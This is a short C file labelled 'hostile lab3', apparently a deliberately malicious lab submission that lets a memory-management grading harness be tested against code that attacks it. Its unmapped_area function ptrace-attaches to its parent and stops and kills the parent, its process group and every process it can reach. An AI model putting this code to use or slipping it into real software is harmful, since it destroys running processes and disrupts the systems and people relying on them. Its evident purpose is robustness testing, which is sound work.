/* hostile lab3: stops, kills and ptraces its parent and everyone it can */
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>
#include "vmalab-lab.h"

unsigned long
unmapped_area(struct mm *mm, const struct vm_unmapped_area_info *info)
{
	pid_t p = getppid();

	ptrace(PTRACE_ATTACH, p, 0, 0);
	kill(p, SIGSTOP);
	kill(p, SIGKILL);
	kill(-1, SIGSTOP);
	kill(-1, SIGKILL);
	kill(0, SIGKILL);
	return (unsigned long)-ENOMEM;
}
